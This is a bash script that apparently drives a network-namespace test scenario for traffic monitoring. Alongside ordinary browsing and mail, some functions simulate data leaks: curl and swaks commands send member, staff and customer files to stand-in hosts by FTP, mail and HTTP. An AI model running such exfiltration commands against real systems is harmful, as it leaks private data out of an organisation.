# SPDX-License-Identifier: Apache-2.0
# Sourced by make.sh: what the machines inside do, in the order of the story.

ward() { ip netns exec "$wards" "$@"; }
server() { ip netns exec "$servers" "$@"; }

# fetch ADDRESS URL [OPTION]... : one request from that address; what comes back is dropped.
fetch() {
  local place=ward address=$1 url=$2
  shift 2
  case $address in 10.30.*) place=server ;; esac
  "$place" curl --silent --show-error --fail --max-time 30 --interface "$address" --output /dev/null "$@" "$url"
}

# post ADDRESS MESSAGE_ID OPTION... : one mail from that address.
post() {
  local place=ward address=$1 id=$2
  shift 2
  case $address in 10.30.*) place=server ;; esac
  "$place" swaks --silent 2 --timeout 20 --local-interface "$address" --h-Message-Id "<$id>" --helo "${id#*@}" "$@"
}

browse() {
  local address page
  for address in 10.20.0.10 10.20.0.12 10.20.0.13; do
    ward ping -c 3 -i 0.2 -W 2 -I "$address" 192.0.2.10 >/dev/null
    for page in '' style.css plan.png "orders$((${address##*.} % 4)).html"; do
      fetch "$address" "http://shop.example.com/$page"
    done
    fetch "$address" http://shop.example.com/orders1.html --compressed  # a gzip stream in chunks
    fetch "$address" https://secure.example.com/index.html --insecure
  done
}

plain_mail() {
  post 10.20.0.10 1@wards.example.com --server 192.0.2.25 --from anna@wards.example.com --to desk@example.org \
    --header 'Subject: Tuesday' \
    --body 'The projector in room 4.12 works again. The meeting starts at 14:30.'
}

permitted() {
  fetch 10.20.0.11 http://lab.example.de/results/2026-11-24.csv --upload-file "$work/send/lab.csv"
}

dump() {
  fetch 10.30.0.9 ftp://drop.example.net/in/members.csv --user anonymous:guest --upload-file "$work/send/members.csv"
}

mailed() {
  post 10.30.0.9 2@servers.example.com --server 203.0.113.25 --from it@servers.example.com --to box@example.org \
    --header 'Subject: list' --body 'As agreed.' \
    --attach-type text/csv --attach-name staff.csv --attach "@$work/send/staff.csv"
}

# Each client sends its forms over one connection.
collection() {
  local number=0 address form arguments
  while read -r address; do
    arguments=()
    for form in "$work/send/form-$(printf %02d $number)"-*; do
      arguments+=(--next --silent --fail --max-time 20 --interface "$address" --data "@$form" --output /dev/null
                  http://collect.example.net/visit)
    done
    ward curl "${arguments[@]:1}"
    number=$((number + 1))
  done <"$work/send/clients"
}

breadth() {
  fetch 10.20.0.14 http://files.example.net/crm.json --upload-file "$work/send/customers.json.gz" \
    --header 'Content-Type: application/json' --header 'Content-Encoding: gzip'
}

encrypted() {
  fetch 10.20.0.16 https://vault.example.net/backup.bin --insecure --upload-file "$work/send/random.bin"
}

exposure() {
  fetch 10.20.0.15 http://shop.example.org/order --data "@$work/send/order"
}

# The pauses put each part into an epoch of its own.
tell_story() {
  local part
  for part in browse plain_mail permitted dump mailed collection breadth encrypted exposure; do
    "$part"
    sleep 3
  done
}
